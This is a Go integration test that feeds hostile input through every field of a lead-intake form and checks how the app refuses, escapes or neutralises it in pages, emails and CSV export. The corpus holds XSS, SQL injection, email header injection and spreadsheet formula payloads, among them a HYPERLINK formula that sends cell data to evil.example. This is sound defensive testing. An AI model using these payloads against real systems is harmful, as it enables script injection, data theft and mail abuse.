package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	netmail "net/mail"
	"net/textproto"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stellapop/intake/diagnostic"
	"github.com/stellapop/intake/diagnostic/diagnostictest"
	"github.com/stellapop/intake/export"
	"github.com/stellapop/intake/mail/mailtest"
	"github.com/stellapop/intake/models"
)

// The contact fields of the diagnostic, in the form's order.
var contactFields = []string{"name", "email", "company", "role", "team_size"}

// hostileCase is one string a visitor (or a script) might send. refused
// lists the fields that must answer 422 with a message next to them; every
// other contact field keeps the value, stored as kept (the value with its
// surrounding space trimmed, as the form does).
type hostileCase struct {
	label   string
	value   string
	refused []string
	why     string // part of the message on the name field, when refused there
	kept    string // what is stored, when not value itself
}

// markup is a value fine in a name, company or role but neither an email
// address nor a team size.
func markup(label, value string) hostileCase {
	return hostileCase{label: label, value: value, refused: []string{"email", "team_size"}}
}

// refusedEverywhere is a value no contact field may keep.
func refusedEverywhere(label, value, why string) hostileCase {
	return hostileCase{label: label, value: value, refused: contactFields, why: why}
}

var hostileCorpus = []hostileCase{
	// Markup and script, which must only ever appear escaped.
	markup("script tag", `<script>alert(1)</script>`),
	markup("attribute breakout img", `"><img src=x onerror=alert(1)>`),
	markup("single-quote breakout svg", `'><svg onload=alert(1)>`),
	markup("svg onload", `<svg/onload=alert(1)>`),
	markup("javascript url", `javascript:alert(1)`),
	markup("mixed-case javascript url", `JaVaScRiPt:alert(document.cookie)`),
	markup("javascript link", `<a href="javascript:alert(1)">click</a>`),
	markup("iframe", `<iframe src="javascript:alert(1)"></iframe>`),
	markup("close title", `</title><script>alert(1)</script>`),
	markup("close textarea", `</textarea><script>alert(1)</script>`),
	markup("style", `<style>*{display:none}</style>`),
	markup("unquoted attribute breakout", `x onfocus=alert(1) autofocus`),
	markup("quoted attribute breakout", `" onfocus="alert(1)" autofocus="`),
	markup("data url", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`),
	markup("already escaped", `&lt;script&gt;alert(1)&lt;/script&gt;`),
	markup("pwned flag", `<img src=x onerror="window.__pwned=1">`),
	markup("go template", `{{.}}`),
	markup("go template call", `{{template "layout" .}}{{printf "%s" .}}`),
	markup("expression language", `${7*7}`),
	markup("erb and ruby", `<%= 7*7 %> #{7*7}`),
	// SQL, which must be stored as text and found as text.
	markup("or 1=1", `' OR 1=1 --`),
	markup("drop table", `'; DROP TABLE leads; --`),
	markup("double-quote or", `" OR ""="`),
	markup("stacked sleep", `1; SELECT pg_sleep(5)`),
	markup("comment", `admin'--`),
	markup("like wildcards", `%' OR name LIKE '%`),
	markup("backslash quote", `\'; --`),
	// Spreadsheet formulas, neutralised in the export.
	markup("hyperlink", `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`),
	markup("equals sum", `=1+2`),
	markup("plus cmd", `+cmd|' /C calc'!A0`),
	markup("minus", `-2+3`),
	markup("at sum", `@SUM(1+1)*cmd|' /C calc'!A0`),
	{label: "tab then formula", value: "\t=1+2", refused: []string{"email", "team_size"}, kept: "=1+2"},
	{label: "carriage return then formula", value: "\r=1+2", refused: []string{"email", "team_size"}, kept: "=1+2"},
	{label: "space then formula", value: " =1+2", refused: []string{"email", "team_size"}, kept: "=1+2"},
	refusedEverywhere("tab inside", "x\t=1+2", "control characters"),
	// Header injection, refused wherever the line break is inside.
	refusedEverywhere("crlf bcc", "a\r\nBcc: victim@example.com", "control characters"),
	refusedEverywhere("lf to", "x\nTo: victim@example.com", "control characters"),
	refusedEverywhere("email crlf bcc", "grace@example.com\r\nBcc: victim@example.com", "control characters"),
	{label: "leading crlf subject", value: "\r\nSubject: x", refused: []string{"email", "team_size"}, kept: "Subject: x"},
	markup("percent-encoded crlf", `%0d%0aBcc:victim@example.com`),
	markup("line separator", "x\u2028Bcc: victim@example.com"),
	// Bytes and characters that are not text, or not visible.
	refusedEverywhere("invalid utf-8", "Gr\xffce\xfe", "can’t read"),
	refusedEverywhere("overlong less-than", "\xc0\xbcscript\xc0\xbe", "can’t read"),
	refusedEverywhere("nul", "Gr\x00ace", "control characters"),
	refusedEverywhere("escape sequence", "\x1b[31mred", "control characters"),
	refusedEverywhere("c1 next line", "Grace\u0085Hopper", "control characters"),
	refusedEverywhere("zero-width space", "Gr\u200bace", "invisible formatting"),
	refusedEverywhere("byte-order mark", "\ufeffGrace", "invisible formatting"),
	refusedEverywhere("right-to-left override", "Grace \u202egnp.exe", "invisible formatting"),
	refusedEverywhere("direction isolate", "\u2067Grace\u2069", "invisible formatting"),
	markup("zero-width joiner emoji", "👩\u200d💻 Dev"),
	markup("cyrillic a in a name", "Grаce Hopper"),
	{label: "cyrillic a in an email", value: "grаce@example.com", refused: []string{"team_size"}},
	refusedEverywhere("10k letters", strings.Repeat("A", 10000), "characters or fewer"),
	refusedEverywhere("10k markup", strings.Repeat("<script>alert(1)</script>", 400), "characters or fewer"),
	// Numbers a team size must refuse, harmless as text.
	markup("negative", "-1"),
	markup("huge", "99999999999999999999"),
	markup("nan", "NaN"),
	markup("hex", "0x10"),
	markup("exponent", "1e3"),
	markup("zero", "0"),
	markup("over the maximum", "100001"),
	markup("decimal", "3.0"),
	{label: "padded number", value: " 3", kept: "3", refused: []string{"email"}},
	// Legitimate values that must arrive intact everywhere.
	markup("phone number", "+44 20 7946 0000"),
	markup("apostrophe", "O'Brien"),
	markup("accent", "José"),
	markup("chinese", "用户"),
	markup("diaeresis and ring", "Zoë Ångström"),
	{label: "apostrophe email", value: "o'brien@example.com", refused: []string{"team_size"}},
}

// hostileAnswers are answers no question may accept, besides every
// string of the corpus.
var hostileAnswers = []string{"-1", "99999999999999999999", "NaN", "0x10", "1e3", " 3", "3 ", "+3", "03", "3.0", "0", "6", "", "٣"}

// hostileClient is a visitor's browser without JavaScript, or a signed-in
// user's: it keeps cookies, follows no redirects, and fails the test on
// any 5xx.
type hostileClient struct {
	t    *testing.T
	base string
	http *http.Client
}

func newHostileClient(t *testing.T, base string) *hostileClient {
	jar, _ := cookiejar.New(nil)
	return &hostileClient{t: t, base: base, http: &http.Client{Jar: jar, Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (c *hostileClient) do(req *http.Request) (int, http.Header, string) {
	c.t.Helper()
	res, err := c.http.Do(req)
	if err != nil {
		c.t.Fatalf("%s %s: %v", req.Method, req.URL.Path, err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	if res.StatusCode >= 500 {
		c.t.Fatalf("%s %s = %d", req.Method, req.URL.Path, res.StatusCode)
	}
	return res.StatusCode, res.Header, string(body)
}

func (c *hostileClient) get(path string) (int, string) {
	c.t.Helper()
	req, _ := http.NewRequest(http.MethodGet, c.base+path, nil)
	status, _, body := c.do(req)
	return status, body
}

// post sends a raw url-encoded body, so keys may repeat in any order.
func (c *hostileClient) post(path, body string) (int, http.Header, string) {
	c.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, c.base+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return c.do(req)
}

var hiddenInput = regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)"`)

// form fetches the diagnostic and returns its hidden fields (the CSRF
// token, the submission key and anything else the page carries) and a
// complete, valid set of answers and contact details.
func (c *hostileClient) form(email string) url.Values {
	c.t.Helper()
	status, page := c.get("/diagnostic")
	if status != http.StatusOK {
		c.t.Fatalf("GET /diagnostic = %d", status)
	}
	v := url.Values{}
	for _, m := range hiddenInput.FindAllStringSubmatch(page, -1) {
		v.Set(m[1], html.UnescapeString(m[2]))
	}
	if v.Get("_csrf") == "" {
		c.t.Fatal("no CSRF token on the form")
	}
	v.Set("name", "Grace Hopper")
	v.Set("email", email)
	v.Set("company", "Acme")
	v.Set("role", "Lead")
	v.Set("consent_summary", "yes")
	v.Set("consent_marketing", "yes")
	diagnostictest.Fill(v, diagnostictest.Shipped(c.t), diagnostictest.Varied)
	return v
}

func (c *hostileClient) signIn(email, password string) {
	c.t.Helper()
	_, page := c.get("/admin/login")
	m := hiddenInput.FindStringSubmatch(page)
	if m == nil || m[1] != "_csrf" {
		c.t.Fatal("no CSRF token on the sign-in form")
	}
	v := url.Values{"_csrf": {m[2]}, "email": {email}, "password": {password}}
	if status, _, _ := c.post("/admin/login", v.Encode()); status != http.StatusSeeOther {
		c.t.Fatalf("sign in = %d", status)
	}
}

// shownEscaped checks that an HTML page shows value as text: wherever the
// value holds markup, neither it nor any opening tag in it appears raw, and
// (if mustShow) the page's text holds it.
func shownEscaped(t *testing.T, where, page, value string, mustShow bool) {
	t.Helper()
	// A lone quote or bracket is in every page; from three characters on,
	// the raw value can only be there unescaped.
	if len(value) > 2 && strings.ContainsAny(value, `<>"'&`) && strings.Contains(page, value) {
		t.Errorf("%s: %q appears unescaped", where, value)
	}
	for rest := value; ; {
		i := strings.IndexByte(rest, '<')
		if i < 0 {
			break
		}
		rest = rest[i:]
		// A whole opening tag, attributes and all; closing tags alone run
		// nothing and are in every page, as are bare starts like "<svg".
		tag, _, closed := strings.Cut(rest, ">")
		if closed && len(tag) > 1 && tag[1] != '/' && strings.Contains(page, tag+">") {
			t.Errorf("%s: the tag %q from %q appears unescaped", where, tag+">", value)
		}
		rest = rest[1:]
	}
	if mustShow && !strings.Contains(html.UnescapeString(page), value) {
		t.Errorf("%s: %q is not shown", where, value)
	}
}

// accepted is a lead saved from the corpus, with what it must read back as.
type accepted struct {
	c     hostileCase
	token string
	lead  *models.Lead
	want  map[string]string // contact field → stored value
}

// TestHostileInputThroughEveryField sends each string of the corpus through
// every contact field and every answer of the real app on PostgreSQL, then
// reads whatever was kept back through the result page, the lead page, the
// inbox, both emails as the SMTP server received them and the CSV export.
func TestHostileInputThroughEveryField(t *testing.T) {
	smtp := mailtest.NewServer(t)
	team := []string{"a@stellapop.example", "b@stellapop.example"}
	base, a := startApp(t, models.Postgres, "SMTP_URL", smtp.URL(), "TEAM_EMAIL", strings.Join(team, ", "),
		"SUBMIT_MIN_SECONDS", "0", "SUBMIT_RATE_LIMIT", "0")
	ctx := context.Background()
	const password = "a long and memorable passphrase"
	if _, err := a.store.CreateUser(ctx, "admin@stellapop.example", "Ada Admin", models.RoleAdmin, password); err != nil {
		t.Fatal(err)
	}
	visitor := newHostileClient(t, base)
	admin := newHostileClient(t, base)
	def := a.def
	first := def.Questions[0].ID
	admin.signIn("admin@stellapop.example", password)

	submit := func(v url.Values) (int, string, string) {
		t.Helper()
		status, hdr, body := visitor.post("/diagnostic", v.Encode())
		return status, hdr.Get("Location"), body
	}

	// A plain lead first: its emails are what every other lead's must look like.
	status, baseline, _ := submit(visitor.form("baseline@example.com"))
	if status != http.StatusSeeOther {
		t.Fatalf("a plain submission = %d", status)
	}
	var saved []*accepted
	refusals := 0

	for i, hc := range hostileCorpus {
		caseEmail := fmt.Sprintf("hostile-%02d@example.com", i)
		kept := hc.value
		if hc.kept != "" {
			kept = hc.kept
		}
		// One submission per field that must refuse the value.
		for _, field := range hc.refused {
			v := visitor.form(caseEmail)
			v.Set(field, hc.value)
			status, _, page := submit(v)
			where := fmt.Sprintf("%s in %s", hc.label, field)
			if status != http.StatusUnprocessableEntity {
				t.Errorf("%s: status %d, want 422", where, status)
				continue
			}
			refusals++
			msg := regexp.MustCompile(`id="` + field + `-error"><span class="visually-hidden">Error: </span>([^<]+)</p>`).FindStringSubmatch(page)
			if msg == nil {
				t.Errorf("%s: no message next to the field", where)
				continue
			}
			switch got := html.UnescapeString(msg[1]); {
			case field == "name" && hc.why != "" && !strings.Contains(got, hc.why):
				t.Errorf("%s: message %q does not say %q", where, got, hc.why)
			case field == "email" && hc.why == "" && !strings.Contains(got, "email address like"):
				t.Errorf("%s: message %q", where, got)
			case field == "team_size" && hc.why == "" && !strings.Contains(got, "whole number") && !strings.Contains(got, "characters or fewer"):
				t.Errorf("%s: message %q", where, got)
			}
			shownEscaped(t, where+": the form shown again", page, hc.value, false)
		}
		// The value as every answer at once: each question says why.
		v := visitor.form(caseEmail)
		diagnostictest.FillText(v, def, hc.value)
		// A copy per question of a 10,000-character value passes the size limit.
		if status, _, page := submit(v); status == http.StatusRequestEntityTooLarge && len(hc.value) >= 10000 {
			refusals++
		} else if status != http.StatusUnprocessableEntity {
			t.Errorf("%s as every answer: status %d, want 422", hc.label, status)
		} else {
			refusals++
			if n := strings.Count(page, `class="field-error" id="q-`); n != len(def.Questions) {
				t.Errorf("%s as every answer: %d questions with a message, want %d", hc.label, n, len(def.Questions))
			}
			shownEscaped(t, hc.label+" as every answer", page, hc.value, false)
		}

		// One submission with the value in every field that keeps it.
		v = visitor.form(caseEmail)
		want := map[string]string{"name": "Grace Hopper", "email": caseEmail, "company": "Acme", "role": "Lead", "team_size": ""}
		takers := 0
		for _, field := range contactFields {
			if !slices.Contains(hc.refused, field) {
				v.Set(field, hc.value)
				want[field] = kept
				takers++
			}
		}
		if takers == 0 {
			continue
		}
		status, loc, page := submit(v)
		if status != http.StatusSeeOther || !strings.HasPrefix(loc, "/results/") {
			t.Errorf("%s kept in %d fields: status %d (%s), want 303 to a result", hc.label, takers, status, page)
			continue
		}
		token := strings.TrimPrefix(loc, "/results/")
		lead, err := a.store.LeadByToken(ctx, token)
		if err != nil {
			t.Fatal(err)
		}
		team := ""
		if lead.TeamSize != nil {
			team = strconv.Itoa(*lead.TeamSize)
		}
		got := map[string]string{"name": lead.Name, "email": lead.Email, "company": lead.Company, "role": lead.Role, "team_size": team}
		for field, w := range want {
			if got[field] != w {
				t.Errorf("%s: stored %s = %q, want %q", hc.label, field, got[field], w)
			}
		}
		saved = append(saved, &accepted{c: hc, token: token, lead: lead, want: want})
	}

	// Structural oddities of the answers.
	for _, ans := range hostileAnswers {
		v := visitor.form("answers@example.com")
		v.Set(diagnostic.AnswerField(first), ans)
		if status, _, page := submit(v); status != http.StatusUnprocessableEntity || !strings.Contains(page, `id="q-`+first+`-error"`) {
			t.Errorf("answer %q: status %d, want 422 with a message at question 1", ans, status)
		}
	}
	for label, extra := range map[string]string{
		"a question answered twice": "&" + diagnostic.AnswerField(first) + "=4",
		"an unknown question":       "&a.q99=3",
		"a question id of markup":   "&" + url.QueryEscape("a.<script>alert(1)</script>") + "=3",
		"a name sent twice":         "&name=Other",
	} {
		body := visitor.form("twice@example.com").Encode() + extra
		status, _, page := visitor.post("/diagnostic", body)
		if status != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d, want 422", label, status)
		}
		if !strings.Contains(page, `role="alert"`) && !strings.Contains(page, `class="notice"`) {
			t.Errorf("%s: no message on the page", label)
		}
		shownEscaped(t, label, page, "<script>alert(1)</script>", false)
	}

	// Nothing refused was saved.
	if n, err := a.store.CountLeads(ctx); err != nil || n != int64(len(saved)+1) {
		t.Errorf("%d leads (%v), want %d: the baseline and one per accepted string", n, err, len(saved)+1)
	}
	t.Logf("%d strings: %d refusals checked, %d leads saved", len(hostileCorpus), refusals, len(saved))

	// Read every kept lead back through the pages.
	for _, s := range saved {
		where := s.c.label
		status, page := visitor.get("/results/" + s.token)
		if status != http.StatusOK {
			t.Errorf("%s: result page %d", where, status)
		} else {
			shownEscaped(t, where+": result page", page, models.FirstName(s.want["name"]), true)
			shownEscaped(t, where+": result page", page, s.c.value, false)
		}
		status, page = admin.get("/admin/leads/" + strconv.FormatInt(s.lead.ID, 10))
		if status != http.StatusOK {
			t.Errorf("%s: lead page %d", where, status)
		} else {
			for _, field := range contactFields {
				shownEscaped(t, where+": lead page "+field, page, s.want[field], s.want[field] != "")
			}
		}
		status, page = admin.get("/admin/leads?q=" + url.QueryEscape(s.lead.Email))
		if status != http.StatusOK {
			t.Errorf("%s: inbox %d", where, status)
		} else {
			shownEscaped(t, where+": inbox", page, s.want["name"], true)
		}
	}

	// Both emails of every lead, as the SMTP server received them.
	msgs := smtp.WaitForMessages(t, 2*(len(saved)+1), 30*time.Second)
	byID := map[string]mailtest.Message{}
	for _, m := range msgs {
		parsed, err := m.Parse()
		if err != nil {
			t.Errorf("unparseable message: %v\n%s", err, m.Data)
			continue
		}
		byID[parsed.Header.Get("Message-Id")] = m
	}
	messageID := func(lead *models.Lead, kind string) string {
		for _, e := range lead.Emails {
			if e.Kind == kind {
				return "<" + e.MessageID + "@127.0.0.1>"
			}
		}
		return ""
	}
	baseLead, err := a.store.LeadByToken(ctx, strings.TrimPrefix(baseline, "/results/"))
	if err != nil {
		t.Fatal(err)
	}
	headerNames := map[string][]string{}
	for _, kind := range models.EmailKinds {
		m, ok := byID[messageID(baseLead, kind)]
		if !ok {
			t.Fatalf("the baseline's %s was not received (have %d messages)", kind, len(byID))
		}
		parsed, _ := m.Parse()
		for k := range parsed.Header {
			headerNames[kind] = append(headerNames[kind], k)
		}
		slices.Sort(headerNames[kind])
	}
	for _, s := range saved {
		for _, kind := range models.EmailKinds {
			where := s.c.label + ": " + kind
			m, ok := byID[messageID(s.lead, kind)]
			if !ok {
				t.Errorf("%s was not received", where)
				continue
			}
			checkHostileEmail(t, where, m, kind, s, team, headerNames[kind])
		}
	}

	// The export: every text cell as kept, neutralised when it would start a formula.
	status, csvBody := admin.get("/admin/export.csv?contacts=all")
	if status != http.StatusOK {
		t.Fatalf("export = %d", status)
	}
	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	header := rows[0]
	col := func(name string) int { return slices.Index(header, name) }
	byLead := map[string][]string{}
	for _, r := range rows[1:] {
		byLead[r[col("lead_id")]] = r
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("export cell %s of lead %s = %q starts a formula", header[i], r[0], cell)
			}
		}
	}
	for _, s := range saved {
		r, ok := byLead[strconv.FormatInt(s.lead.ID, 10)]
		if !ok {
			t.Errorf("%s: lead not in the export", s.c.label)
			continue
		}
		first, last := models.SplitName(s.want["name"])
		for name, w := range map[string]string{
			"email": export.SafeCell(s.want["email"]), "first_name": export.SafeCell(first), "last_name": export.SafeCell(last),
			"company": export.SafeCell(s.want["company"]), "role": export.SafeCell(s.want["role"]), "team_size": s.want["team_size"],
		} {
			if got := r[col(name)]; got != w {
				t.Errorf("%s: export %s = %q, want %q", s.c.label, name, got, w)
			}
		}
	}
}

// checkHostileEmail checks one received email of a kept lead: the
// envelope and headers are exactly a plain lead's, each header on one
// line, and the text reaches both parts, escaped in HTML.
func checkHostileEmail(t *testing.T, where string, m mailtest.Message, kind string, s *accepted, team, headerNames []string) {
	t.Helper()
	parsed, err := m.Parse()
	if err != nil {
		t.Errorf("%s: %v", where, err)
		return
	}
	var names []string
	for k, vs := range parsed.Header {
		names = append(names, k)
		if len(vs) != 1 {
			t.Errorf("%s: header %s appears %d times", where, k, len(vs))
		}
	}
	slices.Sort(names)
	if !slices.Equal(names, headerNames) {
		t.Errorf("%s: headers %v, a plain lead's are %v", where, names, headerNames)
	}
	// Only the headers' own line breaks: no header line starts with anything but a known name.
	head, _, _ := bytes.Cut(m.Data, []byte("\r\n\r\n"))
	for _, line := range strings.Split(string(head), "\r\n") {
		name, _, ok := strings.Cut(line, ":")
		if !strings.HasPrefix(line, " ") && !strings.HasPrefix(line, "\t") && (!ok || !slices.Contains(headerNames, textproto.CanonicalMIMEHeaderKey(name))) {
			t.Errorf("%s: unexpected header line %q", where, line)
		}
	}
	dec := new(mime.WordDecoder)
	subject, err := dec.DecodeHeader(parsed.Header.Get("Subject"))
	if err != nil || strings.ContainsAny(subject, "\r\n") {
		t.Errorf("%s: subject %q (%v)", where, subject, err)
	}
	to, err := parsed.Header.AddressList("To")
	if err != nil {
		t.Errorf("%s: To %q: %v", where, parsed.Header.Get("To"), err)
		return
	}
	var toAddrs []string
	for _, a := range to {
		toAddrs = append(toAddrs, a.Address)
	}
	switch kind {
	case models.EmailProspectSummary:
		if !slices.Equal(m.To, []string{s.want["email"]}) || !slices.Equal(toAddrs, m.To) {
			t.Errorf("%s: sent to %v, To %v; want only %s", where, m.To, toAddrs, s.want["email"])
		}
	case models.EmailTeamNotification:
		if !slices.Equal(m.To, team) || !slices.Equal(toAddrs, team) {
			t.Errorf("%s: sent to %v, To %v; want the team %v", where, m.To, toAddrs, team)
		}
		replyTo, err := parsed.Header.AddressList("Reply-To")
		if err != nil || len(replyTo) != 1 || replyTo[0].Address != s.want["email"] || replyTo[0].Name != s.want["name"] {
			t.Errorf("%s: Reply-To %q (%v), want %s <%s>", where, parsed.Header.Get("Reply-To"), err, s.want["name"], s.want["email"])
		}
		for _, field := range []string{"name", "company"} {
			if !strings.Contains(subject, s.want[field]) {
				t.Errorf("%s: subject %q lacks the %s %q", where, subject, field, s.want[field])
			}
		}
	}
	plain, htmlPart := emailParts(t, where, parsed)
	fields := []string{"name"}
	if kind == models.EmailTeamNotification {
		fields = contactFields
	}
	for _, field := range fields {
		w := s.want[field]
		if field == "name" && kind == models.EmailProspectSummary {
			w = models.FirstName(w) // the greeting's name, as the export splits it
		}
		if w == "" {
			continue
		}
		if !strings.Contains(plain, w) {
			t.Errorf("%s: the text part lacks the %s %q", where, field, w)
		}
		shownEscaped(t, where+" HTML part "+field, htmlPart, w, true)
	}
	shownEscaped(t, where+" HTML part", htmlPart, s.c.value, false)
}

// emailParts returns the decoded text and HTML alternatives of a message.
func emailParts(t *testing.T, where string, msg *netmail.Message) (plain, htmlPart string) {
	t.Helper()
	_, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
	if err != nil {
		t.Errorf("%s: Content-Type: %v", where, err)
		return "", ""
	}
	mr := multipart.NewReader(msg.Body, params["boundary"])
	for {
		p, err := mr.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Errorf("%s: %v", where, err)
			break
		}
		var r io.Reader = p // multipart decodes quoted-printable itself
		if strings.EqualFold(p.Header.Get("Content-Transfer-Encoding"), "base64") {
			r = base64.NewDecoder(base64.StdEncoding, p)
		}
		b, _ := io.ReadAll(r)
		ct, _, _ := mime.ParseMediaType(p.Header.Get("Content-Type"))
		switch ct {
		case "text/plain":
			plain = string(b)
		case "text/html":
			htmlPart = string(b)
		}
	}
	return plain, htmlPart
}
